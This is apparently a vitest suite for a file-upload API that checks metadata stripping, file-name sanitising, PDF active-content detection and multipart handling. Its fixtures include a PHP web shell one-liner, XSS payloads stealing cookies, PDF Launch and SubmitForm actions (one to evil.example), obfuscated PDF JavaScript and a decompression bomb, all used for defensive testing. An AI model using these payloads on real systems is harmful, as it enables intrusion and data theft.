import { deflateSync } from 'node:zlib';
import { PDFName } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { multipart, uploadFile } from '../../../test/multipart.js';
import { action, compressedPdf, handmadePdf, literal, objectStream, streamObject } from '../../../test/pdf-samples.js';
import { signIn } from '../../../test/sessions.js';
import { createTestApp } from '../../../test/test-app.js';
import { renderCataloguePdf } from '../../db/seed/demo-assets.js';
import { safeFileName } from './files.service.js';
import { inspectPdf } from './pdf-inspection.js';

let ctx: Awaited<ReturnType<typeof createTestApp>>;
let user: Awaited<ReturnType<typeof signIn>>;
beforeAll(async () => {
  ctx = await createTestApp({ seeded: false });
  user = await signIn(ctx.app, '09171110001');
});
afterAll(() => ctx?.close());

function upload(name: string, content: Buffer, fields: Record<string, string> = {}) {
  return uploadFile(ctx.app, user.auth, { name, content }, fields);
}

describe('POST /files', () => {
  it('stores an image re-encoded without its metadata, readable by its owner only', async () => {
    const withExif = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#336699' } })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'secret-camera-owner', Artist: 'GPS 35.7,51.4' } })
      .toBuffer();
    expect((await sharp(withExif).metadata()).exif).toBeDefined();
    const response = await upload('photo.jpg', withExif);
    expect(response.statusCode).toBe(201);
    const file = response.json();
    expect(file).toMatchObject({ mimeType: 'image/jpeg', fileName: 'photo.jpg', isPublic: false });
    const download = await ctx.app.inject({ method: 'GET', url: file.url, headers: user.auth });
    expect(download.headers['content-type']).toBe('image/jpeg');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect((await sharp(download.rawPayload).metadata()).exif).toBeUndefined();
    expect(download.rawPayload.includes(Buffer.from('secret-camera-owner'))).toBe(false);
    expect((await ctx.app.inject({ method: 'GET', url: file.url })).statusCode).toBe(404);
  });

  it('refuses a PHP script renamed .jpg', async () => {
    const response = await upload('shell.jpg', Buffer.from('<?php system($_GET["c"]); ?>'));
    expect(response.statusCode).toBe(415);
    expect(response.json().code).toBe('FILES_UNSUPPORTED_TYPE');
  });

  it('refuses an oversized image', async () => {
    const header = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const big = Buffer.concat([header, Buffer.alloc(6 * 1024 * 1024, 7)]);
    const response = await upload('huge.png', big);
    expect(response.statusCode).toBe(413);
    expect(response.json().code).toBe('FILES_IMAGE_TOO_LARGE');
    // The upload route's own body limit (above the API-wide one) lets the file reach the size rule.
    expect(response.json().detail).toBe('حجم تصویر حداکثر ۵ مگابایت است.');
  });

  it('documents downloads as answers of any media type', async () => {
    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json();
    expect(Object.keys(doc.paths['/api/v1/files/{id}'].get.responses['200'].content)).toEqual(['*/*']);
  });

  it('neutralises a path-traversal file name', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    const response = await upload('../../../etc/passwd.png', png);
    expect(response.statusCode).toBe(201);
    expect(response.json().fileName).toBe('passwd.png');
    expect(safeFileName('..\\..\\windows\\win.ini', 'png')).toBe('win.png');
    expect(safeFileName('نقشه فنی <v2>.pdf', 'pdf')).toBe('نقشه فنی v2.pdf');
  });

  it('requires a signed-in user and a file field', async () => {
    const body = multipart({}, { name: 'a.png', content: Buffer.from('x') });
    expect(
      (await ctx.app.inject({ method: 'POST', url: '/api/v1/files', headers: body.headers, payload: body.payload }))
        .statusCode,
    ).toBe(401);
    const empty = multipart({ public: 'true' });
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/files',
      headers: { ...user.auth, ...empty.headers },
      payload: empty.payload,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].field).toBe('body.file');
  });
});

async function refusedPdf(content: Buffer, detail: RegExp) {
  const response = await upload('datasheet.pdf', content);
  expect(response.statusCode).toBe(415);
  expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  const code = detail === ACTIVE ? 'FILES_PDF_ACTIVE_CONTENT' : detail === BROKEN ? 'FILES_PDF_MALFORMED' : undefined;
  expect(response.json()).toMatchObject({
    code: code ?? expect.stringMatching(/^FILES_PDF_/),
    detail: expect.stringMatching(detail),
  });
}
const ACTIVE = /اسکریپت/;
const BROKEN = /PDF سالم نیست/;

describe('POST /files with a PDF', () => {
  it('accepts the seed datasheet and a PDF with compressed object streams, served as downloads', async () => {
    const datasheet = Buffer.from(
      await renderCataloguePdf({ title: 'Centrifugal pump', supplier: 'Pars', rows: [['Flow', '12 m3/h']] }),
    );
    const ok = await upload('datasheet.pdf', datasheet);
    expect(ok.statusCode).toBe(201);
    expect(ok.json()).toMatchObject({ mimeType: 'application/pdf', fileName: 'datasheet.pdf' });
    const download = await ctx.app.inject({ method: 'GET', url: ok.json().url, headers: user.auth });
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
    expect(download.rawPayload.equals(datasheet)).toBe(true);

    const withLinks = await compressedPdf((doc, _page, catalog) => {
      catalog.set(PDFName.of('OpenAction'), action(doc, 'URI', { URI: literal('https://example.ir/') }));
    });
    expect((await upload('links.pdf', withLinks)).statusCode).toBe(201);
    expect((await upload('handmade.pdf', handmadePdf())).statusCode).toBe(201);
  });

  it('refuses script names written with #xx escapes, in either case', async () => {
    await refusedPdf(handmadePdf('/Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), ACTIVE);
    await refusedPdf(handmadePdf('/#4fpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>'), ACTIVE);
  });

  it('refuses JavaScript inside a Flate-compressed object stream', async () => {
    const byPdfLib = await compressedPdf((doc, _page, catalog) => {
      catalog.set(PDFName.of('OpenAction'), action(doc, 'JavaScript', { JS: literal('app.alert(1)') }));
    });
    expect(byPdfLib.includes('JavaScript')).toBe(false);
    await refusedPdf(byPdfLib, ACTIVE);
    // The same by hand: the action is object 5, inside object stream 4.
    const byHand = handmadePdf('/OpenAction 5 0 R', [objectStream(5, ['<< /S /JavaScript /JS (app.alert(1)) >>'])]);
    expect(byHand.includes('JavaScript')).toBe(false);
    await refusedPdf(byHand, ACTIVE);
  });

  it.each([
    [
      'a launch action in a page /AA',
      (doc, page) => {
        page.node.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, 'Launch', { F: literal('cmd.exe') }) }));
      },
    ],
    [
      'an embedded file',
      async (doc) => {
        await doc.attach(Buffer.from('MZ payload'), 'setup.exe', { mimeType: 'application/octet-stream' });
      },
    ],
    [
      'a file attachment annotation',
      (doc, page) => {
        page.node.set(
          PDFName.of('Annots'),
          doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'FileAttachment' })]),
        );
      },
    ],
    [
      'a rich media annotation',
      (doc, page) => {
        page.node.set(
          PDFName.of('Annots'),
          doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'RichMedia' })]),
        );
      },
    ],
    [
      'a submit-form open action',
      (doc, _page, catalog) => {
        catalog.set(PDFName.of('OpenAction'), action(doc, 'SubmitForm', { F: literal('https://evil.example/') }));
      },
    ],
    [
      'an import-data open action',
      (doc, _page, catalog) => {
        catalog.set(PDFName.of('OpenAction'), action(doc, 'ImportData', { F: literal('data.fdf') }));
      },
    ],
  ] satisfies [string, Parameters<typeof compressedPdf>[0]][])('refuses %s, compressed', async (_, edit) => {
    await refusedPdf(await compressedPdf(edit), ACTIVE);
  });

  it('refuses a file that starts with %PDF but is HTML, garbage or truncated', async () => {
    await refusedPdf(
      Buffer.from('%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>'),
      BROKEN,
    );
    const sneaked = handmadePdf()
      .toString('latin1')
      .replace('1 0 obj', '<html><script>alert(1)</script></html>\n1 0 obj');
    await refusedPdf(Buffer.from(sneaked, 'latin1'), BROKEN);
    await refusedPdf(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0xa7)]), BROKEN);
    const whole = handmadePdf();
    await refusedPdf(whole.subarray(0, whole.byteLength - 60), BROKEN);
    await refusedPdf(Buffer.from(`%PDF-1.7\n1 0 obj\n${'['.repeat(200_000)}`), BROKEN);
  });

  it('refuses an object a viewer would find through the xref table but the parser saw as stream data', async () => {
    const hidden = '5 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj';
    const pdf = handmadePdf('/Open#41ction 5 0 R', [streamObject('', Buffer.from(hidden)), '<< >>'], {
      xrefAt: (n, offset, file) => (n === 5 ? file.indexOf('5 0 obj << /S') : offset),
    });
    await refusedPdf(pdf, BROKEN);
  });

  it('refuses encrypted PDFs, which cannot be inspected', async () => {
    const pdf = handmadePdf('', ['<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>'], {
      trailerExtra: '/Encrypt 4 0 R',
    });
    await refusedPdf(pdf, /رمزگذاری/);
  });

  it('refuses an object stream that inflates past the limit', async () => {
    const bomb = objectStream(5, ['<< >>'], (text) =>
      deflateSync(Buffer.concat([text, Buffer.alloc(70 * 1024 * 1024)])),
    );
    await refusedPdf(handmadePdf('', [bomb]), BROKEN);
  });

  it('gives up on an inspection that runs out of time', async () => {
    expect(await inspectPdf(handmadePdf(), 1)).toMatchObject({ ok: false, reason: 'unverifiable' });
    expect(await inspectPdf(handmadePdf())).toEqual({ ok: true, pages: 1 });
  });

  it('refuses an image header followed by HTML', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>alert(1)</script>')]);
    const response = await upload('photo.png', png);
    expect(response.statusCode).toBe(415);
    expect(response.json().code).toBe('FILES_UNSUPPORTED_TYPE');
  });
});

describe('POST /files answers in bounded time whatever the form’s shape (issue 17, finding 4)', () => {
  const PNG = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
  const boundary = '----bzshape';
  const part = (name: string, content: Buffer | string, fileName?: string) =>
    Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${fileName ? `; filename="${fileName}"\r\nContent-Type: image/png` : ''}\r\n\r\n`,
      ),
      Buffer.from(content),
      Buffer.from('\r\n'),
    ]);
  const end = Buffer.from(`--${boundary}--\r\n`);
  /** Sends a raw form; a stalled request fails the test after 5 s instead of hanging it. */
  async function send(payload: Buffer, contentType = `multipart/form-data; boundary=${boundary}`) {
    const response = ctx.app.inject({
      method: 'POST',
      url: '/api/v1/files',
      headers: { ...user.auth, 'content-type': contentType },
      payload,
    });
    const stalled = new Promise<never>((_, reject) => setTimeout(() => reject(new Error('no answer in 5 s')), 5_000));
    const answer = await Promise.race([response, stalled]);
    expect(answer.headers['content-type']).toMatch(/^application\/(problem\+)?json/);
    return answer;
  }

  it('answers 400 naming body.file when the file comes under another field name', async () => {
    const response = await send(Buffer.concat([part('upload', PNG, 'a.png'), end]));
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].field).toBe('body.file');
  });

  it('stores the file when unknown fields come before it', async () => {
    const response = await send(
      Buffer.concat([part('note', 'x'), part('public', 'true'), part('file', PNG, 'real.png'), end]),
    );
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ fileName: 'real.png', isPublic: true });
  });

  it('refuses two files (any field names) with 413, and a form without, with a wrong or cut-short boundary with 400', async () => {
    for (const second of ['file', 'upload']) {
      const two = await send(Buffer.concat([part('file', PNG, 'a.png'), part(second, PNG, 'b.png'), end]));
      expect(two.statusCode).toBe(413);
    }
    const whole = Buffer.concat([part('file', PNG, 'a.png'), end]);
    for (const [payload, contentType] of [
      [whole, 'multipart/form-data'],
      [whole, 'multipart/form-data; boundary=not-the-one'],
      [whole.subarray(0, 60), undefined],
      [Buffer.alloc(0), undefined],
    ] as const) {
      const response = await send(payload, contentType);
      expect(response.statusCode).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(response.json().code).toMatch(/^(BAD_REQUEST|VALIDATION_FAILED)$/);
    }
  });
});
